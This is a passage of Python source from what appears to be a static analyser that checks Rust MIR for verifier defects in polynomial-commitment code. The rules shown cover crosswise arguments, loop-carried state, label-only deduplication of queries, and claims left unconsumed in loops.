        rep.add(rule, key, bad is None,
                ("the scalars of the msm at %s start at an offset into the coefficients, and the bases are sliced from an offset "
                 "derived from the same value" % t["span"]) if bad is None else
                ("the scalars of the msm at %s are the coefficients from position `%s` on, but the bases are not sliced from "
                 "an offset derived from it (%s): coefficient i meets key element i - offset" % (
                     t["span"], f.bodies[bad[0]].locals[bad[1]].get("name") or "_%d" % bad[1],
                     "no offset on the bases" if not ob else "%d unrelated offset(s) on the bases" % len(ob))), t["span"])
    return len(ss), n_off, len(wrappers)
