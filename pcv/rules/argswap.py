"""R18 ARGUMENT SELECTION: at a call of a crate-local function no two arguments are passed crosswise - argument i
carrying the name of parameter j and argument j the name of parameter i, while neither matches its own parameter
(Rice et al., "Detecting argument selection defects", OOPSLA 2017: the exact two-sided form has next to no false reports).
Names come from the resolved program: parameter names from the callee's MIR debug info, argument names by following
the argument temp back through plain copies to a named user variable of the caller."""


def _norm(n):
    return (n or "").lstrip("_").lower()


def _sim(a, b):
    a, b = _norm(a), _norm(b)
    if not a or not b:
        return False
    return a == b or a.startswith(b) or b.startswith(a)


def _arg_name(body, a, defs):
    if a.get("k") not in ("copy", "move"):
        return None
    pl = a["pl"]
    if pl.get("p"):
        return None
    l = pl["l"]
    for _ in range(6):
        nm = body.locals[l].get("name")
        if nm:
            return nm
        d = defs.get(l)
        if d is None or len(d) != 1:
            return None
        rv = d[0]
        if rv.get("k") not in ("use", "cast") or not rv.get("ops"):
            return None
        o = rv["ops"][0]
        if o.get("k") not in ("copy", "move") or o["pl"].get("p"):
            return None
        l = o["pl"]["l"]
    return None


def swapped(f, scope, ctx_adt=None):
    """returns (n_calls_judged, [(caller, term, i, j, names)])"""
    out = []
    judged = 0
    for bid in sorted(scope):
        body = f.bodies[bid]
        defs = {}
        for blk in body.blocks:
            for st in blk["stmts"]:
                if not st["dst"].get("p"):
                    defs.setdefault(st["dst"]["l"], []).append(st["rv"])
        for bi, t in body.calls():
            if t.get("exp"):
                continue
            targets = [c for c in f.call_targets(t, ctx_adt) if c in f.bodies and f.bodies[c].kind != "Closure"]
            if not targets:
                continue
            args = t.get("args") or []
            anames = [_arg_name(body, a, defs) for a in args]
            if sum(1 for x in anames if x) < 2:
                continue
            for c in targets:
                cb = f.bodies[c]
                if cb.arg_count != len(args):
                    continue
                pnames = [cb.locals[k + 1].get("name") for k in range(cb.arg_count)]
                ptys = [cb.locals[k + 1].get("ty") for k in range(cb.arg_count)]
                judged += 1
                for i in range(len(args)):
                    for j in range(i + 1, len(args)):
                        if not (anames[i] and anames[j] and pnames[i] and pnames[j]):
                            continue
                        if ptys[i] != ptys[j] or _norm(pnames[i]) == _norm(pnames[j]):
                            continue
                        if _sim(anames[i], pnames[j]) and _sim(anames[j], pnames[i]) and \
                                not _sim(anames[i], pnames[i]) and not _sim(anames[j], pnames[j]):
                            out.append((bid, t, i, j, (anames[i], anames[j], pnames[i], pnames[j]), c))
    return judged, out


def attach(rep, ctx, prefixes, what):
    """R18 over every body whose path starts with one of `prefixes`."""
    f = ctx.facts
    scope = [bid for bid in f.bodies if bid.startswith(tuple(prefixes))]
    judged, out = swapped(f, scope)
    rep.count("R18 calls judged", judged)
    rep.add("R18", "scope", judged >= 1, "%d calls of crate-local functions with at least two named arguments judged in %s" % (
        judged, ", ".join(prefixes)) if judged >= 1 else "no call with named arguments found in %s (fail closed)" % ", ".join(prefixes), None)
    seen = set()
    for (bid, t, i, j, names, callee) in out:
        cn = callee.rsplit("::", 1)[-1]
        caller = f.bodies[bid].name
        key = "crosswise:%s->%s:%s/%s" % (caller, cn, names[2], names[3])
        if key in seen:
            continue
        seen.add(key)
        rep.add("R18", key, False,
                "call of `%s` at %s passes `%s` for parameter `%s` and `%s` for parameter `%s` (same type, each argument carries "
                "the other parameter's name): %s" % (cn, t.get("span"), names[0], names[2], names[1], names[3], what), t.get("span"))
    if not out:
        rep.add("R18", "no-crosswise-arguments", True, "no two same-typed arguments are passed crosswise by name", None)
