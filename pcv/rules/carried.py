"""R1p PER-ITEM FRESHNESS: in a loop whose iterations each handle one item (one polynomial of a commit call, one
equation of a linear-combination check, one (commitment, value) pair of a verifier) - recognised by its cursor being
built from the parameter that lists those items - a working variable that is written inside the loop may carry a value from
one iteration into the next only when it is one of the loop's declared accumulators.

A user variable of the function is LOOP-CARRIED in a loop when
  (a) some write to it inside the loop (an assignment, an assignment to one of its fields, or a mutable borrow of it)
      can reach the loop's back edge without a later whole-variable assignment, and
  (b) some read of it inside the loop can be reached from the loop's header without first passing a whole-variable
      assignment.
Under (a) and (b) the read may observe what an earlier item left behind. The output containers of a per-item loop
(the vectors the loop pushes into, the map of adjusted values) are carried by design and recognised by being read
after the loop; the random source, the sponge, the loop's cursor, variables without scheme data (counters, flags)
and variables that are only questioned and updated in place (a `seen` set) are exempt; every other carried variable
is reported: it makes
the result for one item depend on the items before it (a constant term charged to the next equation, a blinding
polynomial inherited by a polynomial that asked for none).

The rule reads MIR: whole-variable assignment = a statement or call destination that is the bare local; declaring the
variable inside the loop body is such an assignment at the top of every iteration.
"""
from ..engine import short, where_of
from .meet import _natural_loops


def _writes_reads(b, x):
    """per block: ordered event list of ('K' kill | 'W' partial write / mutable borrow | 'R' read) for local x."""
    ev = {}
    resets = _reset_by_call(b, x)
    for i, blk in enumerate(b.blocks):
        out = []
        for st in blk["stmts"]:
            rv = st["rv"]
            k = rv.get("k")
            if i in resets and k == "ref" and rv["pl"]["l"] == x and blk["term"]["args"][0]["pl"]["l"] == st["dst"]["l"]:
                out.append("K")
                continue
            # reads first (rhs evaluated before the store)
            rd = False
            if k in ("ref", "discr", "rawptr", "len"):
                pl = rv.get("pl")
                if pl and pl["l"] == x:
                    if k in ("ref", "rawptr") and rv.get("mut"):
                        out.append("W")
                    rd = True
            for o in rv.get("ops", []):
                if o["k"] in ("copy", "move") and o["pl"]["l"] == x:
                    rd = True
            if rd:
                out.append("R")
            d = st["dst"]
            if d["l"] == x:
                if not d["p"]:
                    out.append("K")
                elif d["p"][0] != "*":
                    out.append("W")
        t = blk["term"]
        if t["k"] == "call":
            if any(a["k"] in ("copy", "move") and a["pl"]["l"] == x for a in t["args"]):
                out.append("R")
            d = t["dst"]
            if d["l"] == x:
                out.append("K" if not d["p"] else "W")
        elif t["k"] in ("switch", "assert"):
            o = t["op"]
            if o["k"] in ("copy", "move") and o["pl"]["l"] == x:
                out.append("R")
        elif t["k"] == "drop":
            pass
        if out:
            ev[i] = out
    return ev


def carried_in(b, header, body, x):
    """(carried, write block, read block) for local x in the loop (header, body)."""
    ev = _writes_reads(b, x)
    if not any(i in body for i in ev):
        return False, None, None
    succ = b.succ()
    # (a) a write inside the loop (whatever it writes is what the next iteration finds)
    wblk = None
    for i in sorted(body):
        if any(c in "WK" for c in ev.get(i, ())):
            wblk = i
            break
    if wblk is None:
        return False, None, None
    # (b) a read reachable from the header without passing a kill
    seen, st = set(), [header]
    while st:
        y = st.pop()
        if y in seen or y not in body:
            continue
        seen.add(y)
        killed = False
        for c in ev.get(y, ()):
            if c == "R" or c == "W":
                return True, wblk, y
            if c == "K":
                killed = True
                break
        if killed:
            continue
        for z in succ[y]:
            if z != header:
                st.append(z)
    return False, wblk, None


import re

PLAIN = {"usize", "u8", "u16", "u32", "u64", "u128", "isize", "i8", "i16", "i32", "i64", "i128", "bool", "char", "str",
         "String", "Option", "Vec", "std", "string", "option", "vec", "mut", "static", "core", "alloc", "Range", "ops",
         "time", "Duration", "Instant", "TimerInfo", "ark_std", "perf_trace", "inner"}
KILLING_CALLS = ("::clear", "::set_zero", "::take")


def plain_type(ty):
    """True when the type holds no scheme data (counters, flags, names, timers)."""
    return all(w in PLAIN for w in re.findall(r"[A-Za-z_][A-Za-z0-9_]*", ty.replace("'a", "").replace("'_", "")))


def _iterator_locals(b, header, body):
    """locals advanced by an `Iterator::next` call inside the loop (the loop's own cursor)."""
    out = set()
    for i in body:
        t = b.blocks[i]["term"]
        if t["k"] != "call" or not (t.get("callee") or "").endswith("::next"):
            continue
        for a in t["args"][:1]:
            if a["k"] not in ("copy", "move"):
                continue
            want = {a["pl"]["l"]}
            for st in reversed(b.blocks[i]["stmts"]):
                if st["dst"]["l"] in want and not st["dst"]["p"] and st["rv"].get("k") == "ref":
                    want.add(st["rv"]["pl"]["l"])
            out |= want
    return out


def _reset_by_call(b, x):
    """blocks in which a mutable borrow of x goes straight into a call that empties it (`clear`, `set_zero`,
    `mem::take`): such a call is as good as a whole-variable assignment."""
    out = set()
    for i, blk in enumerate(b.blocks):
        t = blk["term"]
        if t["k"] != "call" or not any((t.get("callee") or "").endswith(k) for k in KILLING_CALLS) or not t["args"]:
            continue
        a = t["args"][0]
        if a["k"] not in ("copy", "move"):
            continue
        for st in blk["stmts"]:
            if st["dst"]["l"] == a["pl"]["l"] and st["rv"].get("k") == "ref" and st["rv"]["pl"]["l"] == x and not st["rv"]["pl"]["p"]:
                out.add(i)
    return out


def read_after(b, body, x):
    """a read of x in a block outside the loop that a loop exit reaches."""
    succ = b.succ()
    ev = _writes_reads(b, x)
    st = [z for y in body for z in succ[y] if z not in body]
    seen = set()
    while st:
        y = st.pop()
        if y in seen or y in body:
            continue
        seen.add(y)
        if any(c in "RW" for c in ev.get(y, ())):
            return y
        # a fresh assignment outside the loop ends the life of the carried value
        if "K" in ev.get(y, ()):
            continue
        st.extend(succ[y])
    return None


def feeds(b, body, x):
    """block of the loop in which the carried value of x flows into something other than x itself: it is passed to a
    call as anything but the receiver, a call on it returns scheme data, or it is an operand of a value stored
    elsewhere. Asking it a yes/no question or updating it in place (`seen.insert(k)`, `n += 1`) feeds nothing."""
    copies = {x}
    changed = True
    while changed:
        changed = False
        for i in body:
            for st in b.blocks[i]["stmts"]:
                rv, d = st["rv"], st["dst"]
                if d["p"] or d["l"] in copies:
                    continue
                src = None
                if rv.get("k") == "use" and rv["ops"][0]["k"] in ("copy", "move"):
                    src = rv["ops"][0]["pl"]
                elif rv.get("k") == "ref":
                    src = rv["pl"]
                if src is not None and src["l"] in copies and (b.locals[d["l"]].get("name") is None):
                    if rv.get("k") == "use" and src["p"] and not plain_type(b.locals[d["l"]]["ty"]) and False:
                        continue
                    copies.add(d["l"])
                    changed = True
    for i in sorted(body):
        blk = b.blocks[i]
        for st in blk["stmts"]:
            rv, d = st["rv"], st["dst"]
            if d["l"] in copies and not d["p"]:
                continue
            used = [o for o in rv.get("ops", []) if o["k"] in ("copy", "move") and o["pl"]["l"] in copies]
            if rv.get("k") in ("ref", "discr", "len", "rawptr") and rv.get("pl", {}).get("l") in copies:
                used.append(rv)
            if used and d["l"] not in copies and not plain_type(b.locals[d["l"]]["ty"]):
                return i
        t = blk["term"]
        if t["k"] == "call":
            for k, a in enumerate(t["args"]):
                if a["k"] in ("copy", "move") and a["pl"]["l"] in copies:
                    if k >= 1 or not plain_type(b.locals[t["dst"]["l"]]["ty"].replace("()", "")):
                        return i
    return None


def exempt(b, x):
    loc = b.locals[x]
    if 1 <= x <= b.arg_count and (loc["ty"] or "").startswith("&mut "):
        return "out-parameter (the caller reads it after the call)"
    if loc.get("rng"):
        return "random source"
    if any(bd.endswith("CryptographicSponge") or bd.endswith("RngCore") for bd in loc.get("bounds", ())):
        return "sponge / random source"
    if "RngCore" in loc["ty"] or "OptionalRng" in loc["ty"]:
        return "random source"
    if plain_type(loc["ty"]):
        return "no scheme data"
    return None


ITEM_TYPES = ("LabeledPolynomial", "LinearCombination", "LabeledCommitment")


def per_item_loop(b, cursors, item_types=ITEM_TYPES):
    """the loop's cursor is built from a parameter that lists the items (its type names one of `item_types`): follow
    the cursor back through the calls and moves that built it, not through `next` (an element of an outer loop is
    not the list)."""
    seen, st = set(), list(cursors)
    while st:
        x = st.pop()
        if x in seen:
            continue
        seen.add(x)
        if 1 <= x <= b.arg_count and (item_types is None or any(t in b.locals[x]["ty"] for t in item_types)):
            return True
        for blk in b.blocks:
            for stt in blk["stmts"]:
                if stt["dst"]["l"] == x and not stt["dst"]["p"]:
                    rv = stt["rv"]
                    if rv.get("pl"):
                        st.append(rv["pl"]["l"])
                    st.extend(o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move"))
            t = blk["term"]
            if t["k"] == "call" and t["dst"]["l"] == x and not t["dst"]["p"]:
                if (t.get("callee") or "").rsplit("::", 1)[-1] in ("next", "next_back"):
                    continue
                st.extend(a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move"))
    return False


STOP = ("batch_check", "batch_open", "open", "check", "commit", "check_individual_opening_challenges",
        "open_individual_opening_challenges", "batch_check_individual_opening_challenges", "msm", "rand", "setup", "trim")


def scope(f, roots, ctx_adt, stop=STOP):
    """the bodies that do the per-item work of the given entry points: the entry points and what they call in the
    crate, not descending into the scheme's other entry points (which batch on purpose)."""
    seen, st = [], list(roots)
    while st:
        x = st.pop()
        if x in seen or x not in f.bodies:
            continue
        seen.append(x)
        for c in sorted(f.local_callees(x, ctx_adt)):
            cb = f.bodies.get(c)
            if cb is None or (cb.kind != "Closure" and (cb.name or "").rsplit("::", 1)[-1] in stop):
                continue
            st.append(c)
    return seen


def run(rep, ctx, key, roots, ctx_adt=None, rule="R1p", stop=STOP, item_types=ITEM_TYPES):
    """every loop of the bodies in scope: a carried variable holding scheme data must be an accumulator of that loop
    (its value is read after the loop), the loop's cursor, or the random source / sponge. Returns (#loops, #carried)."""
    f = ctx.facts
    n_loops = n = 0
    for bid in scope(f, roots, ctx_adt, stop):
        body = f.bodies[bid]
        loops = _natural_loops(body)
        for h, blocks in sorted(loops):
            cursors = _iterator_locals(body, h, blocks)
            if not per_item_loop(body, cursors, item_types):
                continue
            n_loops += 1
            for x, loc in enumerate(body.locals):
                nm = loc.get("name")
                if not nm or x in cursors:
                    continue
                c, w, r = carried_in(body, h, blocks, x)
                if not c or exempt(body, x):
                    continue
                n += 1
                after = read_after(body, blocks, x)
                if after is None and feeds(body, blocks, x) is None:
                    rep.add(rule, "%s:per-item-fresh:%s@%s" % (key, nm, short(bid)), True,
                            "`%s` is carried round the loop at %s but only questioned and updated in place: nothing "
                            "of it flows into another value" % (nm, where_of(f, bid, h)), where_of(f, bid, h))
                    continue
                rep.add(rule, "%s:per-item-fresh:%s@%s" % (key, nm, short(bid)), after is not None,
                        ("`%s` is carried round the loop at %s and read after it at %s: an accumulator of the loop" % (
                            nm, where_of(f, bid, h), where_of(f, bid, after))) if after is not None else
                        ("`%s` (%s) is written in the loop at %s and read in a later iteration at %s before anything "
                         "re-initialises it, and nothing reads it after the loop: what one item leaves in it is "
                         "applied to the next item" % (nm, loc["ty"][:60], where_of(f, bid, w), where_of(f, bid, r))),
                        where_of(f, bid, r))
    return n_loops, n


def survey(ctx, b, payload=None):
    """[(header, var name, local, type)] for every loop-carried named local of body b."""
    out = []
    for h, body in _natural_loops(b):
        for x, loc in enumerate(b.locals):
            nm = loc.get("name")
            if not nm or x <= b.arg_count and False:
                continue
            c, w, r = carried_in(b, h, body, x)
            if c:
                out.append((h, nm, x, loc["ty"], w, r))
    return out
