"""R5k DEDUP-KEY: a verifier that skips work for a query it has "already seen" must remember whole queries.

The query set holds (label, (point label, point)) entries. A membership test on a set of *labels* (`insert` /
`contains` on a `BTreeSet<String>` ..) whose result decides a branch inside the loop over the queries is a
de-duplication by label alone. If the arm taken for an already-seen label reaches the next iteration without touching
the query's point while the other arm does use the point, every later query of the same label at *another* point is
skipped: its claim is never looked at. (Caching label-specific work is not affected: then neither arm's difference
involves the point. A set keyed by (label, point) is not affected either.)"""
from ..engine import short
from .rng import cyclic_blocks

MEMBERSHIP = ("insert", "contains", "replace", "get")
LABEL_TYPES = ("std::string::String", "str")


def _strip(ty):
    ty = (ty or "").strip()
    while ty.startswith("&"):
        ty = ty[1:].lstrip()
        if ty.startswith("mut "):
            ty = ty[4:]
        if ty.startswith("'"):
            ty = ty.split(" ", 1)[1] if " " in ty else ty
    return ty


def _elem_type(set_ty):
    s = _strip(set_ty)
    for head in ("std::collections::BTreeSet<", "std::collections::HashSet<", "hashbrown::HashSet<"):
        if s.startswith(head) and s.endswith(">"):
            return _strip(s[len(head):-1].split(", ")[0])
    return None


def _copies(b, roots):
    out = set(roots)
    changed = True
    while changed:
        changed = False
        for blk in b.blocks:
            for st in blk["stmts"]:
                if st["dst"]["p"] or st["dst"]["l"] in out:
                    continue
                rv = st["rv"]
                src = rv["pl"] if rv.get("k") in ("ref", "rawptr") else (
                    rv["ops"][0]["pl"] if rv.get("k") in ("use", "cast") and rv.get("ops") and rv["ops"][0]["k"] in ("copy", "move") else None)
                if src is not None and src["l"] in out:
                    out.add(st["dst"]["l"])
                    changed = True
            t = blk["term"]
            if t["k"] == "call" and not t["dst"]["p"] and t["dst"]["l"] not in out:
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if nm in ("clone", "borrow", "as_ref", "deref", "to_owned", "into") and t["args"] and \
                        t["args"][0]["k"] in ("copy", "move") and t["args"][0]["pl"]["l"] in out:
                    out.add(t["dst"]["l"])
                    changed = True
    return out


def run(rep, ctx, anchor, rule="R5k"):
    g = ctx.graph(anchor)
    f = ctx.facts
    bad = None
    examined = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        cyc = cyclic_blocks(b)
        if not cyc:
            continue
        succ = b.succ()
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in MEMBERSHIP or i not in cyc or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            ety = _elem_type(b.locals[t["args"][0]["pl"]["l"]]["ty"])
            if ety not in LABEL_TYPES:
                continue
            examined += 1
            # branches in this body whose condition is computed from the membership result
            derived = _copies(b, {t["dst"]["l"]})
            grew = True
            while grew:
                grew = False
                for blk in b.blocks:
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if st["dst"]["p"] or st["dst"]["l"] in derived:
                            continue
                        reads = [rv["pl"]["l"]] if rv.get("k") in ("ref", "rawptr", "discr") else \
                            [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
                        if rv.get("k") in ("unop", "binop", "discr", "use", "cast") and any(r in derived for r in reads):
                            derived.add(st["dst"]["l"])
                            grew = True
            # the loop and its item: locals bound from the `(point label, point)` half of the query
            from .refusal import _scc_of
            scc = _scc_of(b, i)
            heads = [h for h in scc if all(b.dominates(h, x) for x in scc)]
            if not heads:
                continue
            h = heads[0]
            point_roots = set()
            for x in scc:
                for st in b.blocks[x]["stmts"]:
                    rv = st["rv"]
                    src = rv["pl"] if rv.get("k") in ("ref", "rawptr") else (
                        rv["ops"][0]["pl"] if rv.get("k") in ("use",) and rv.get("ops") and rv["ops"][0]["k"] in ("copy", "move") else None)
                    if src is None or st["dst"]["p"]:
                        continue
                    fields = [e["f"] for e in src["p"] if isinstance(e, dict) and "f" in e]
                    has_dc = any(isinstance(e, dict) and "dc" in e for e in src["p"])
                    # (_item as Some).0 . 1 . k   or a later projection `.1.k` of the item binding
                    if (has_dc and len(fields) >= 2 and fields[1] == 1) or (not has_dc and fields[:1] == [1] and "(" in (b.locals[src["l"]]["ty"] or "")):
                        point_roots.add(st["dst"]["l"])
            if not point_roots:
                continue
            pts = _copies(b, point_roots)
            p_use = set()
            for x in scc:
                blk = b.blocks[x]
                for st in blk["stmts"]:
                    rv = st["rv"]
                    reads = [rv["pl"]["l"]] if rv.get("k") in ("ref", "rawptr", "discr") else \
                        [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
                    if any(r in pts for r in reads) and st["dst"]["l"] not in pts:
                        p_use.add(x)
                tt = blk["term"]
                if tt["k"] == "call" and any(a["k"] in ("copy", "move") and a["pl"]["l"] in pts for a in tt["args"]) \
                        and tt["dst"]["l"] not in pts:
                    p_use.add(x)

            def can_skip(start):
                seen = set()
                st_ = [start]
                while st_:
                    y = st_.pop()
                    if y in seen or y in p_use or y not in scc:
                        continue
                    if y == h:
                        return True
                    seen.add(y)
                    st_.extend(succ[y])
                return False
            for x in scc:
                tt = b.blocks[x]["term"]
                if tt["k"] == "switch" and tt["op"]["k"] in ("copy", "move") and tt["op"]["pl"]["l"] in derived:
                    arms = succ[x]
                    skips = [can_skip(s) for s in arms]
                    if any(skips) and not all(skips):
                        bad = (t["span"], tt.get("span"))
    rep.add(rule, "%s:queries-not-deduplicated-by-label" % anchor.key, bad is None,
            "no membership test on a set of labels decides whether a query's point is looked at (%d label sets examined)" % examined
            if bad is None else
            "the membership test at %s on a set of labels decides a branch one arm of which goes on to the next query without "
            "touching this query's point: a second query of the same label at another point is skipped" % bad[0],
            bad[0] if bad else anchor.body.span)
    return 1
