"""R1d CONSUMED-EVERY-ITERATION: a claim element that a verifier loop extracts must be consumed (fed into the
computation that reaches the outcome) on every path to the next iteration.

For a payload local defined inside a loop (the element the loop's pattern binds, or a value looked up in the loop),
no path inside the loop may lead from its definition to the loop's back edge without passing a block that consumes
it. Early exits (`?`, `return`, panics) leave the loop and are not back edges. A `continue` that jumps over the
comparison of the claimed value lets that claim through unchecked for the inputs taking that path, while the
comparison is still present in the function (so plain liveness cannot see it).
"""
from ..engine import short, where_of
from ..flow import OUTCOME, payload_nodes
from .refusal import _scc_of
from .rng import cyclic_blocks


def def_and_use_blocks(b, local):
    """blocks where `local` is assigned, and blocks where it (or an exact copy / reference of it) is really used
    (read by anything but a plain move / reborrow)."""
    copies = {local}
    changed = True
    while changed:
        changed = False
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                k = rv.get("k")
                if st["dst"]["p"]:
                    continue
                src = None
                if k == "use" and rv["ops"][0]["k"] in ("copy", "move"):
                    src = rv["ops"][0]["pl"]
                elif k == "ref":
                    src = rv["pl"]
                if src is not None and src["l"] in copies and all(e == "*" for e in src["p"]) and st["dst"]["l"] not in copies:
                    copies.add(st["dst"]["l"])
                    changed = True
    defs, uses = set(), set()
    for i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            rv = st["rv"]
            if st["dst"]["l"] == local and not st["dst"]["p"]:
                defs.add(i)
            k = rv.get("k")
            reads = []
            if k in ("ref", "discr", "rawptr"):
                reads = [rv["pl"]["l"]]
            else:
                reads = [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
            if any(r in copies for r in reads):
                plain = (k == "use" or k == "ref") and not st["dst"]["p"] and st["dst"]["l"] in copies
                if not plain:
                    uses.add(i)
        t = blk["term"]
        if t["k"] == "call":
            if any(a["k"] in ("copy", "move") and a["pl"]["l"] in copies for a in t["args"]):
                uses.add(i)
            if t["dst"]["l"] == local and not t["dst"]["p"]:
                defs.add(i)
        elif t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move") and t["op"]["pl"]["l"] in copies:
            uses.add(i)
    return defs, uses


def check_payload(g, node):
    """returns (applicable, ok, detail, where)."""
    f = g.facts
    bid, local = node
    b = f.bodies[bid]
    if "&mut" in b.locals[local]["ty"]:
        return False, True, "a mutable element reference (in-place update loop), not an extracted claim", None
    defs, uses = def_and_use_blocks(b, local)
    if not uses:
        return False, True, "never used (liveness is R1's business)", None
    cyc = cyclic_blocks(b)
    defs_in_loop = [d for d in defs if d in cyc]
    if not defs_in_loop:
        return False, True, "not defined inside a loop", None
    succ = b.succ()
    for d in defs_in_loop:
        scc = _scc_of(b, d)
        headers = [h for h in scc if all(b.dominates(h, x) for x in scc)]
        if not headers:
            continue
        h = headers[0]
        # an inner loop that consumes the value somewhere in its body counts as consuming it: whether that loop
        # runs at least once (and takes the consuming arm) is a fact about runtime values, not about structure
        uses = set(uses)
        pred = b.pred()
        for x in scc:
            for y in succ[x]:
                if y == h or y not in scc or not b.dominates(y, x):
                    continue
                body = {y, x}
                st2 = [x]
                while st2:
                    z = st2.pop()
                    if z == y:
                        continue
                    for w in pred[z]:
                        if w not in body and w in scc:
                            body.add(w)
                            st2.append(w)
                if body & uses and d not in body:
                    uses.add(y)
        # walk inside the loop from the definition without entering a consuming block
        seen = set()
        st = [d] if d not in uses else []
        while st:
            x = st.pop()
            if x in seen:
                continue
            seen.add(x)
            for y in succ[x]:
                if y == h:
                    span = b.blocks[x]["term"].get("span")
                    return True, False, ("the next iteration can be reached from the extraction of the element without "
                                         "consuming it (back edge from the block at %s)" % span), span
                if y in scc and y not in uses and y not in seen:
                    st.append(y)
    return True, True, "consumed on every path to the next iteration", None


def run_values(rep, ctx, anchor, rule="R1d", role="values", what="claimed value", starts=None):
    g = ctx.graph(anchor)
    from .. import tables as T
    if starts is None:
        idx = anchor.roles.get(role)
        if idx is None:
            return 0
        starts = [(anchor.body.id, idx)]
    pl = payload_nodes(g, starts, T.SCALARS)
    n = 0
    for node in sorted(pl, key=str):
        app, ok, detail, where = check_payload(g, node)
        if not app:
            continue
        n += 1
        b = ctx.facts.bodies[node[0]]
        nm = b.locals[node[1]].get("name") or "_%d" % node[1]
        rep.add(rule, "%s:%s:%s@%s" % (anchor.key, role, nm, short(node[0])), ok,
                "%s `%s` in %s: %s" % (what, nm, short(node[0]), detail), where or b.span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R1L: a value produced per iteration must not survive only as "the last one"
def copies_of(b, local):
    """`local` plus locals that are plain copies / references / single-operand wrappers (Some(x)) of it."""
    copies = {local}
    changed = True
    while changed:
        changed = False
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                k = rv.get("k")
                if st["dst"]["p"]:
                    continue
                srcs = []
                if k == "use" and rv["ops"][0]["k"] in ("copy", "move"):
                    srcs = [rv["ops"][0]["pl"]]
                elif k == "ref":
                    srcs = [rv["pl"]]
                elif k == "agg" and len(rv.get("ops", [])) == 1 and rv["ops"][0]["k"] in ("copy", "move"):
                    srcs = [rv["ops"][0]["pl"]]
                for src in srcs:
                    if src["l"] in copies and st["dst"]["l"] not in copies:
                        copies.add(st["dst"]["l"])
                        changed = True
    return copies


def real_use_blocks(b, copies):
    uses = set()
    for i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            rv = st["rv"]
            k = rv.get("k")
            if k in ("ref", "discr", "rawptr"):
                reads = [rv["pl"]["l"]]
            else:
                reads = [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
            if any(r in copies for r in reads):
                # (moving the value into the return place is a use: the caller sees it)
                plain = not st["dst"]["p"] and st["dst"]["l"] in copies and st["dst"]["l"] != 0 and (
                    k in ("use", "ref") or (k == "agg" and len(rv.get("ops", [])) == 1) or k == "discr")
                if not plain and k != "discr":
                    uses.add(i)
        t = blk["term"]
        if t["k"] == "call" and any(a["k"] in ("copy", "move") and a["pl"]["l"] in copies for a in t["args"]):
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in ("drop", "deref", "as_ref", "clone", "unwrap", "expect", "branch", "from_residual", "into"):
                uses.add(i)
    return uses


def last_value_only(g, bid):
    """locals of body `bid` that receive a computed value inside a loop, are not really used before the back
    edge on some path, but are really used after the loop: only the last iteration's value counts."""
    f = g.facts
    b = f.bodies[bid]
    cyc = cyclic_blocks(b)
    if not cyc:
        return []
    succ = b.succ()
    out = []
    defs = {}
    for i, blk in enumerate(b.blocks):
        if i not in cyc:
            continue
        for st in blk["stmts"]:
            if st["dst"]["p"]:
                continue
            rv = st["rv"]
            if rv.get("k") == "use" and rv["ops"][0]["k"] in ("copy", "move") and not rv["ops"][0]["pl"]["p"] \
                    and st["dst"]["l"] not in ():
                pass
            if all(o["k"] == "const" for o in rv.get("ops", [{"k": "x"}])) and rv.get("k") in ("use", "agg"):
                continue     # constants / flags
            if rv.get("k") == "agg" and not rv.get("ops"):
                continue
            if rv.get("k") in ("ref", "discr"):
                continue
            defs.setdefault(st["dst"]["l"], set()).add(i)
        t = blk["term"]
        if t["k"] == "call" and not t["dst"]["p"]:
            defs.setdefault(t["dst"]["l"], set()).add(i)
    # definitions outside any loop (initialisations of loop-carried variables)
    outside = set()
    for i, blk in enumerate(b.blocks):
        if i in cyc:
            continue
        for st in blk["stmts"]:
            if not st["dst"]["p"]:
                outside.add(st["dst"]["l"])
        t = blk["term"]
        if t["k"] == "call" and not t["dst"]["p"]:
            outside.add(t["dst"]["l"])
    for local, dblocks in defs.items():
        if local not in outside:
            continue      # bound afresh in every iteration (pattern binding, temporary): not loop-carried
        ty = b.locals[local]["ty"]
        if ty in ("()",) or ty.startswith(("&mut", "std::ops::ControlFlow", "std::option::Option<std::result", "std::result::Result")):
            continue
        from .carried import plain_type
        if ty.startswith("std::option::Option<") and plain_type(ty):
            continue      # `let mut found = None; for .. { if .. { found = Some(bound) } }`: a search result (an index,
                          # a bound, a name), not a value that has to be accumulated over the elements
        copies = copies_of(b, local)
        uses = real_use_blocks(b, copies)
        for d in dblocks:
            scc = _scc_of(b, d)
            uses_out = [u for u in uses if u not in scc]
            if not uses_out:
                continue
            headers = [h for h in scc if all(b.dominates(h, x) for x in scc)]
            if not headers:
                continue
            h = headers[0]
            if not any(b.dominates(h, u) for u in uses_out):
                continue
            seen = set()
            st = [d] if d not in uses else []
            hit = None
            while st and hit is None:
                x = st.pop()
                if x in seen:
                    continue
                seen.add(x)
                for y in succ[x]:
                    if y == h:
                        hit = x
                        break
                    if y in scc and y not in uses and y not in seen:
                        st.append(y)
            if hit is not None:
                # an accumulator (its new value is computed from its old one) carries every iteration forward
                from ..flow import DATA, ALIAS
                from .lenguard import _rev
                # (not through the return place: `_0` is written on every exit, and its alias edges would tie
                # the `?` residuals of unrelated calls to the value)
                par = g.reach([(bid, local)], kinds=(DATA, ALIAS), cut=lambda n_, e_: n_ == (bid, 0) or e_.dst == (bid, 0))
                reached = {st_[0] for st_ in par}
                self_dep = any(a in reached and a != (bid, local) and e.kind == DATA
                               for (a, e) in _rev(g).get((bid, local), ()))
                if not self_dep:
